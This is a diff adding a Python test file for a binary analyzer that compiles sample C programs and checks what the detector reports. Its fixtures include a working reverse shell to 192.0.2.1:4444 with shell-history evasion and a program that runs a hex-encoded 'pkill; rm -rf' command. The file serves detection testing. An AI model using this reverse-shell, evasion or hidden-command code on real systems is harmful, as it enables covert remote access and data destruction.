@@ -1,0 +1,145 @@
+"""Behaviours of compiled code, end to end: real binaries built with gcc (and one ELF written
+byte by byte, as shellcode stagers are), examined by the binary analyzer, with the finding kind,
+severity and evidence (strings and their offsets) a reviewer would act on."""
+
+from __future__ import annotations
+
+import struct
+from pathlib import Path
+
+from binbuild import compile_c
+from finalexam.analyze.binary import analyzer, capabilities
+from finalexam.analyze.binary.facts.parse import examine
+from finalexam.model import Finding, FindingKind, Location, Severity
+
+IMPLANT = r"""
+#include <arpa/inet.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+static const char *quiet = "HISTFILE=/dev/null";
+int main(int argc, char **argv) {
+    struct sockaddr_in a; memset(&a, 0, sizeof a);
+    a.sin_family = AF_INET; a.sin_port = htons(4444);
+    inet_pton(AF_INET, "192.0.2.1", &a.sin_addr);
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (argc > 5 && connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
+        putenv((char *)quiet);
+        dup2(s, 0); dup2(s, 1); dup2(s, 2);
+        execl("/bin/sh", "sh", "-i", (char *)0);
+    }
+    return 0;
+}
+"""
+
+HIDDEN_COMMAND = r"""
+#include <stdio.h>
+#include <stdlib.h>
+/* "pkill Terminal; rm -rf /tmp/x" in hex, decoded at run time */
+static const char *cmd = "706b696c6c205465726d696e616c3b20726d202d7266202f746d702f78";
+int main(int argc, char **argv) {
+    if (argc > 5) return system(cmd);
+    return puts("ok") < 0;
+}
+"""
+
+PLAIN = r"""
+#include <stdio.h>
+int main(void) { return puts("hello") < 0; }
+"""
+
+
+def findings_of(path: Path, name: str | None = None) -> list[Finding]:
+    data = path.read_bytes()
+    location = Location((name or path.name,))
+    rules = capabilities.load_rules()
+    return analyzer.describe(examine(data), data, location, rules).findings
+
+
+def behaviours(findings: list[Finding]) -> dict[str, Finding]:
+    return {
+        f.rule_id: f
+        for f in findings
+        if f.kind is FindingKind.BEHAVIOR and f.severity.rank >= Severity.HIGH.rank
+    }
+
+
+def test_network_exec_and_evasion_in_one_binary_is_a_high_behaviour(tmp_path: Path) -> None:
+    binary = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
+    found = behaviours(findings_of(binary))
+    implant = found["capability.behavior-implant"]
+    assert implant.evidence.details["capabilities"] == [
+        "evasion-history",
+        "network-client",
+        "process-creation",
+        "shell-exec",
+    ]
+    # the part that raised it is itself reported, with the offset of the string in the file
+    history = next(f for f in findings_of(binary) if f.rule_id == "capability.evasion-history")
+    data = binary.read_bytes()
+    assert history.severity is Severity.MEDIUM and history.kind is FindingKind.BINARY
+    assert history.evidence.offset == data.index(b"HISTFILE=/dev/null")
+    assert "HISTFILE=/dev/null" in history.message
+
+
+def test_each_capability_alone_stays_below_the_gate(tmp_path: Path) -> None:
+    source = IMPLANT.replace('"HISTFILE=/dev/null"', '"LANG=C"')
+    found = findings_of(compile_c(tmp_path, "client", ["-O0"], source))
+    assert not behaviours(found)
+    assert "capability.reverse-shell" in {f.rule_id for f in found}  # medium: reported only
+
+
+def test_what_is_ordinary_for_the_kind_is_not_a_finding(tmp_path: Path) -> None:
+    binary = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
+    # the same code named as a network tool: its shell over a socket is what nc -e does
+    as_tool = findings_of(binary, "nc")
+    assert not behaviours(as_tool)
+    assert "capability.reverse-shell" not in {f.rule_id for f in as_tool}
+    # but history switched off is never ordinary
+    assert "capability.evasion-history" in {f.rule_id for f in as_tool}
+
+
+def test_encoded_commands_that_are_run_are_a_behaviour(tmp_path: Path) -> None:
+    binary = compile_c(tmp_path, "launcher", ["-O0"], HIDDEN_COMMAND)
+    found = behaviours(findings_of(binary))
+    hidden = found["capability.behavior-hidden-command"]
+    assert hidden.evidence.details["capabilities"] == ["encoded-shell-command", "process-creation"]
+    encoded = next(
+        f for f in findings_of(binary) if f.rule_id == "capability.encoded-shell-command"
+    )
+    assert encoded.evidence.offset == binary.read_bytes().index(b"706b696c6c")
+    assert set(encoded.evidence.details["decoded"]) >= {"pkill ", "rm -rf"}
+
+
+def test_an_ordinary_program_has_no_finding(tmp_path: Path) -> None:
+    found = findings_of(compile_c(tmp_path, "hello", ["-O2"], PLAIN))
+    assert not [f for f in found if f.rule_id.startswith("capability.")]
+
+
+def stager_elf() -> bytes:
+    """An x86-64 ELF as shellcode stagers are written: one RWX PT_LOAD, no section headers,
+    code at the entry point (here: exit(0) by syscall)."""
+    code = bytes.fromhex("31ff b83c000000 0f05".replace(" ", ""))
+    base, header_size = 0x400000, 64 + 56
+    ehdr = struct.pack(
+        "<4sBBBBB7xHHIQQQIHHHHHH",
+        b"\x7fELF", 2, 1, 1, 0, 0,
+        2, 62, 1, base + header_size, 64, 0, 0, 64, 56, 1, 0, 0, 0,
+    )  # fmt: skip
+    total = header_size + len(code)
+    phdr = struct.pack("<IIQQQQQQ", 1, 7, 0, base, base, total, total, 0x1000)
+    return ehdr + phdr + code
+
+
+def test_a_hand_written_stager_is_a_high_behaviour(tmp_path: Path) -> None:
+    path = tmp_path / "tiny"
+    path.write_bytes(stager_elf())
+    found = behaviours(findings_of(path))
+    assert found["capability.shellcode-stager"].evidence.details["traits"] == [
+        "no-section-headers",
+        "tiny",
+        "writable-executable-segment",
+    ]
+    # a compiled program, however small, has section headers and no RWX segment
+    assert not behaviours(findings_of(compile_c(tmp_path, "small", ["-Os", "-s"], PLAIN)))
